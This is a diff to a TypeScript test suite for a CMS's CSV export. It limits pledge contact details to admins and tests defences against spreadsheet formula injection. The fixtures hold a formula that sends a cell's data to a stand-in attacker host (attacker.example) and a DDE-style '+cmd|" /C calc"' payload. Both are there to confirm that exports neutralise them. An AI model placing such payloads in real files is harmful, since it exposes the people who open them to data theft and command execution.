@@ -1,7 +1,8 @@
 /**
  * CSV import and export over real HTTP (a seeded CMS under `next start`, see helpers/cms-server.ts):
  * the whole file checked first, a report by line and column, all or nothing or only the good rows,
- * no duplicates on a second import, and who may import and export.
+ * no duplicates on a second import, who may import and export (pledge contact details: admins
+ * only), and no exported cell a spreadsheet would run as a formula (issue #15).
  */
 import { readFileSync } from 'node:fs'
 import { parse } from 'csv-parse/sync'
@@ -216,15 +217,15 @@ describe('CSV export', () => {
     expect((await download('anonymous', 'job-postings')).status).toBe(401)
   })
 
-  it('exports pledges with their contact details to staff only', async () => {
+  it('exports pledges to staff, their contact details to admins only', async () => {
     const submission = validSubmission()
     const submitted = await as.anonymous!.rest('POST', '/api/pledges', { body: formBody(submission), headers: { 'X-Forwarded-For': `10.9.${run.length}.7` } })
     expect(submitted.status).toBe(201)
     expect(await savedPledge(as.admin!, submitted.json.reference)).toBeDefined()
     for (const role of ['editor', 'reviewer', 'admin'] as const) {
-      const { status, rows, header: columns } = await download(role, 'pledges')
+      const { status, rows, header: columns, text } = await download(role, 'pledges')
       expect(status).toBe(200)
-      expect(columns).toEqual(expect.arrayContaining(['reference', 'status', 'organizationName', 'contact_email', 'commitments']))
+      expect(columns).toEqual(expect.arrayContaining(['reference', 'status', 'organizationName', 'commitments']))
       expect(columns).not.toContain('reviewNote')
       expect(columns).not.toContain('idempotencyKey')
       const row = rows.find((r) => r.reference === submitted.json.reference)!
@@ -232,13 +233,79 @@ describe('CSV export', () => {
         status: 'pending',
         organizationName: submission.organization.name,
         organization_region: 'sonoma-county',
-        contact_email: submission.contact.email,
         commitments: 'hiring: no-degree-required, value-shared-life-experience; pay-and-benefits: fair-pay-scale',
       })
+      const contact = ['contact_name', 'contact_title', 'contact_email', 'contact_phone']
+      if (role === 'admin') {
+        expect(columns).toEqual(expect.arrayContaining(contact))
+        expect(row).toMatchObject({ contact_name: submission.contact.name, contact_email: submission.contact.email })
+      } else {
+        expect(columns.filter((c) => c.startsWith('contact'))).toEqual([])
+        expect(text).not.toContain(submission.contact.email)
+        expect(text).not.toContain(submission.contact.phone)
+      }
     }
     const anonymous = await download('anonymous', 'pledges')
     expect(anonymous.status).toBe(401)
     expect(anonymous.text).not.toContain(submission.contact.email)
+  })
+
+  const hyperlink = '=HYPERLINK("http://attacker.example/?"&A1,"Open")'
+  /** A cell a spreadsheet would run as a formula. */
+  const runnable = (cell: string) => /^[=+\-@\t\r]/.test(cell)
+
+  it('writes a pledge whose texts start like a formula with a leading apostrophe, and its counts as numbers', async () => {
+    const submission = validSubmission({ signerName: '@Ana Signer' })
+    submission.organization.name = hyperlink
+    submission.contact.phone = '+1 707 555 0123'
+    const submitted = await as.anonymous!.rest('POST', '/api/pledges', { body: formBody(submission), headers: { 'X-Forwarded-For': `10.9.${run.length}.8` } })
+    expect(submitted.status).toBe(201)
+    const { status, rows, text } = await download('admin', 'pledges', { where: { reference: { equals: submitted.json.reference } } })
+    expect(status).toBe(200)
+    expect(rows).toHaveLength(1)
+    expect(rows[0]).toMatchObject({
+      organizationName: `'${hyperlink}`,
+      signerName: "'@Ana Signer",
+      contact_phone: "'+1 707 555 0123",
+      organization_chwCount: String(submission.organization.chwCount),
+    })
+    // The cell as a spreadsheet sees it: quoted, starting with the apostrophe.
+    expect(text).toContain(`"'=HYPERLINK(""http://attacker.example/?""&A1,""Open"")"`)
+    expect(Object.values(rows[0]!).filter(runnable)).toEqual([])
+  })
+
+  it('exports a job posting whose texts start like a formula with a leading apostrophe, and imports the file back unchanged', async () => {
+    const slug = `csv-formula-${run}`
+    const created = await importCsv('editor', csvFile(jobRow(slug, { title: hyperlink, title_es: '+cmd|" /C calc"!A0', summary: '-2+3 in a summary', duties: '@first duty | second duty', location_city: '=Santa Rosa' })), { mode: 'all' })
+    expect(created.json.problems).toEqual([])
+    expect(created.json.created).toBe(1)
+    const only = { drafts: 'yes', where: { slug: { equals: slug } } }
+    const first = await download('editor', 'job-postings', only)
+    expect(first.status).toBe(200)
+    expect(first.rows).toHaveLength(1)
+    expect(first.rows[0]).toMatchObject({
+      title: `'${hyperlink}`,
+      title_es: `'+cmd|" /C calc"!A0`,
+      summary: "'-2+3 in a summary",
+      duties: "'@first duty | second duty",
+      location_city: "'=Santa Rosa",
+      pay_min: '25',
+    })
+    expect(Object.values(first.rows[0]!).filter(runnable)).toEqual([])
+
+    // The exported file, imported as it is, changes nothing: the CMS holds the original texts and
+    // a second export is the first one (but for when it was saved).
+    const again = await importCsv('editor', first.text, { mode: 'all' })
+    expect(again.json.problems).toEqual([])
+    expect(again.json).toMatchObject({ saved: true, created: 0, updated: 1 })
+    const [saved] = await jobsWithSlugs([slug])
+    expect(saved!.title).toEqual({ en: hyperlink, es: '+cmd|" /C calc"!A0' })
+    expect(saved!.summary.en).toBe('-2+3 in a summary')
+    expect(saved!.duties.map((d: any) => d.text.en)).toEqual(['@first duty', 'second duty'])
+    expect(saved!.location.city).toBe('=Santa Rosa')
+    const second = await download('editor', 'job-postings', only)
+    const withoutTime = (rows: Record<string, string>[]) => rows.map(({ updatedAt: _, ...row }) => row)
+    expect(withoutTime(second.rows)).toEqual(withoutTime(first.rows))
   })
 
   it('never stores an export, and the plugin’s own import is closed', async () => {
@@ -310,7 +377,9 @@ describe('the import page in the admin (Chromium)', () => {
       const [download] = await Promise.all([page.waitForEvent('download'), downloadButton.click()])
       const csv = readFileSync((await download.path())!, 'utf8')
       const [columns] = parse(csv, { bom: true, to_line: 1 }) as string[][]
-      expect(columns).toEqual(expect.arrayContaining(['reference', 'status', 'contact_email', 'commitments']))
+      expect(columns).toEqual(expect.arrayContaining(['reference', 'status', 'commitments']))
+      // A reviewer's file has no contact details: only admins export those.
+      expect(columns).not.toContain('contact_email')
       await context.close()
     } finally {
       await browser.close()
